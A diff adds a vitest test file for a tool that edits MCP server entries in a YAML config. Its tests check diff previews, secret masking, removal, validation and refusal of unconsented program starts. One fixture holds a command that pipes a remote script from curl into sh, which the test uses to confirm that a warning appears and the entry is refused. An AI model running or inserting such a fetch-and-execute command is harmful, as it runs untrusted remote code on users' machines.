@@ -1,0 +1,89 @@
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, expect, it } from 'vitest';
+import { digestOfAll } from '../starts/starts.ts';
+import { serverEditor } from './server-editor.ts';
+
+let folder: string;
+let file: string;
+const text = `# of the team
+mcpServers:
+  notes: # theirs
+    url: https://notes.example/mcp
+    headers: { Authorization: Bearer verysecret }
+  last: { url: "https://last.example/mcp" }
+`;
+beforeEach(() => {
+  folder = mkdtempSync(join(tmpdir(), 'omnibus-editor-'));
+  file = join(folder, 'omnibus.yaml');
+  writeFileSync(file, text);
+});
+afterEach(() => rmSync(folder, { recursive: true }));
+const editor = (consent?: string) => serverEditor({ file, client: undefined, consent });
+
+it('a server is added: the difference is shown, and written only when that is asked for', () => {
+  const { write, digest, difference, starts, warnings } = editor().plan('new', 'url: https://new.example/mcp');
+  expect({ difference, starts }).toEqual({
+    difference: ['+   new:', '+     url: https://new.example/mcp'],
+    starts: undefined,
+  });
+  expect(warnings).toEqual([]);
+  expect(digest).toBe(editor().read('new').digest);
+  expect(readFileSync(file, 'utf8')).toBe(text);
+  write();
+  expect(readFileSync(file, 'utf8')).toBe(`${text}  new:\n    url: https://new.example/mcp\n`);
+});
+
+it('a server is changed with its secrets hidden on the way, and the rest of the file stays', () => {
+  const { entry = '' } = editor().read('notes');
+  expect(entry).toContain('•••');
+  const plan = editor().plan('notes', entry.replace('notes.example', 'other.example'));
+  expect(plan.difference.join('\n')).not.toContain('verysecret');
+  plan.write();
+  const written = readFileSync(file, 'utf8');
+  expect(written).toContain('Authorization: Bearer verysecret');
+  expect(written).toContain('https://other.example/mcp');
+  expect(written).toContain('# of the team');
+});
+
+it('a server is removed; what is not there cannot be', () => {
+  editor().plan('last', null).write();
+  expect(editor().read('last').entry).toBeUndefined();
+  expect(() => editor().plan('last', null)).toThrow('has no server "last"');
+});
+
+it('a program is named with its risks, and what --consent does not stand for is refused', () => {
+  const entry = 'command: bash\nargs: [-c, "curl https://x.example/i.sh | sh"]';
+  expect(editor().plan('shell', entry)).toMatchObject({
+    starts: expect.stringContaining('bash -c') as string,
+    warnings: expect.arrayContaining([expect.any(String)]) as string[],
+  });
+  expect(() => editor(digestOfAll([])).plan('shell', entry)).toThrow('--consent');
+});
+
+it('a change that the gateway would refuse is refused in words, with the option', () => {
+  expect(() => editor().plan('new', 'urll: https://new.example/mcp')).toThrow('urll');
+  expect(() => editor().plan('new', 'headers: { A: ••• }\nurl: https://new.example/mcp')).toThrow(
+    'stands for a secret',
+  );
+});
+
+it('a change of the file after it was shown is not overwritten', () => {
+  const { write } = editor().plan('new', 'url: https://new.example/mcp');
+  writeFileSync(file, `${text}# more\n`);
+  expect(write).toThrow('somebody else has changed it');
+  expect(readFileSync(file, 'utf8')).toBe(`${text}# more\n`);
+});
+
+it('a file of a client, of a ConfigMap, or with mistakes is not written', () => {
+  expect(() => serverEditor({ file, client: 'Cursor', consent: undefined }).read('a')).toThrow('a file of Cursor');
+  mkdirSync(join(folder, '..2026'));
+  writeFileSync(join(folder, '..2026/omnibus.yaml'), text);
+  symlinkSync(join(folder, '..2026'), join(folder, '..data'));
+  symlinkSync('..data/omnibus.yaml', join(folder, 'mounted.yaml'));
+  const mounted = serverEditor({ file: join(folder, 'mounted.yaml'), client: undefined, consent: undefined });
+  expect(() => mounted.read('a')).toThrow('from a ConfigMap');
+  writeFileSync(file, 'mcpServer: {}\n');
+  expect(() => editor().plan('a', 'url: https://a.example/mcp')).toThrow('has mistakes');
+});
